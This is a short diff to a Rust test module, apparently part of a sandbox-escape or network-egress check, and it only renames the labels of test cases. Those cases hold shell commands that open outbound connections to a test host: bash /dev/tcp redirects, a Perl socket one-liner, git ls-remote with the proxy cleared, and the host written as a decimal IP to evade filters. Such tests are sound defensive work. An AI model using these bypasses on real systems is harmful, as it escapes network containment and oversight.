@@ -133,17 +133,17 @@ pub(super) fn speaking(scene: &Scene, _: u64) -> Vec<Act> {
     let reaches =
         |mark: &str, command: String| Act::vain(command.replace("MARK", mark), Harm::Reaches(mark.to_owned()));
     vec![
-        reaches("by-bash", format!("echo 'GET /MARK' > /dev/tcp/{host}/{port}")),
-        reaches("by-bash-again", format!("exec 5<>/dev/tcp/{host}/{port} && echo 'GET /MARK' >&5 && cat <&5")),
+        reaches("bash-plain", format!("echo 'GET /MARK' > /dev/tcp/{host}/{port}")),
+        reaches("bash-kept", format!("exec 5<>/dev/tcp/{host}/{port} && echo 'GET /MARK' >&5 && cat <&5")),
         reaches(
-            "by-perl",
+            "perl",
             format!(
                 "perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(\"{host}:{port}\") or die; print $s \"GET /MARK\\n\\n\"'"
             ),
         ),
-        reaches("by-git", format!("git ls-remote http://{host}:{port}/MARK")),
-        reaches("by-git-without-proxy", format!("git -c http.proxy= ls-remote http://{host}:{port}/MARK")),
-        reaches("by-git-in-an-odd-spelling", format!("git ls-remote http://{}:{port}/MARK", u32::from(ip4(scene)))),
+        reaches("git-plain", format!("git ls-remote http://{host}:{port}/MARK")),
+        reaches("git-no-proxy", format!("git -c http.proxy= ls-remote http://{host}:{port}/MARK")),
+        reaches("git-odd", format!("git ls-remote http://{}:{port}/MARK", u32::from(ip4(scene)))),
     ]
 }
 
